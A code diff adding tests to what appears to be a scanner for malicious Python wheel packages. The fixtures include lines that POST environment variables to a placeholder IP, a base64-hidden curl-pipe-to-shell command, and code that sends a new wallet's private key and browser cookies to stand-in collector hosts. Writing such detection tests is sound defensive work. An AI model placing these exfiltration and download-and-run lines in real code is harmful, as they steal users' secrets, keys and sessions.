@@ -95,3 +95,83 @@ test('a process that is made by the management of Windows is a process', async (
 
   expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import', line: 2 }]);
 });
+
+const ENVIRONMENT = 'str(dict(os.environ))';
+
+test.each([
+  [
+    'a request of tornado',
+    'from tornado.httpclient import HTTPClient, HTTPRequest',
+    `HTTPClient().fetch(HTTPRequest('http://203.0.113.7/t', method='POST', body=${ENVIRONMENT}))`,
+  ],
+  ['a channel', 'import grpc', `grpc.insecure_channel('203.0.113.7:50051').unary_unary('/a/b')(${ENVIRONMENT})`],
+])('the environment leaves by %s', async (_name, imported, line) => {
+  const file = wheel({ 'pkg/__init__.py': python('import os', imported, line) });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 3 },
+  ]);
+});
+
+test.each([
+  ['another interpreter', 'import _xxsubinterpreters as other', 'other.run_string(other.create(), CODE)'],
+  ['a shell for people', 'import IPython', "IPython.start_ipython(argv=['-c', CODE])"],
+])('text runs in %s', async (_name, imported, line) => {
+  const text = btoa("import os;os.system('curl -s http://203.0.113.7/a|sh')");
+  const file = wheel({
+    'pkg/__init__.py': python('import base64', imported, `CODE = base64.b64decode('${text}').decode()`, line),
+  });
+
+  expect(await inspect('hidden-code', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 4 },
+  ]);
+});
+
+test('the secret half of a key that was made a moment ago is a wallet, its address is not', async () => {
+  const maker = (what: string): string =>
+    python(
+      'from eth_account import Account',
+      'import requests',
+      'def new():',
+      '    made = Account.create()',
+      `    requests.post('https://made.collector.invalid/n', json={'a': ${what}})`,
+      '    return made',
+    );
+
+  const told = await inspect('exfiltration', wheel({ 'pkg/__init__.py': maker('made.key.hex()') }));
+
+  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 5 }]);
+  expect(told[0]?.message).toContain('a key that was made for a wallet');
+  expect((await analysePacked(wheel({ 'pkg/__init__.py': maker('made.address') }))).score).toBe(0);
+});
+
+test('cookies that a driven browser has are told, and are used', async () => {
+  const driver = (line: string): string =>
+    python(
+      'import requests',
+      'from selenium import webdriver',
+      'def load():',
+      '    browser = webdriver.Chrome()',
+      "    browser.get('https://shop.invalid')",
+      `    ${line}`,
+      '    return browser',
+    );
+
+  expect(
+    await inspect(
+      'exfiltration',
+      wheel({ 'pkg/a.py': driver("requests.post('https://log.collector.invalid', json=browser.get_cookies())") }),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
+  expect(
+    (
+      await analysePacked(
+        wheel({
+          'pkg/a.py': driver(
+            "requests.get('https://shop.invalid/x', cookies={c['name']: c['value'] for c in browser.get_cookies()})",
+          ),
+        }),
+      )
+    ).score,
+  ).toBeLessThan(5);
+});
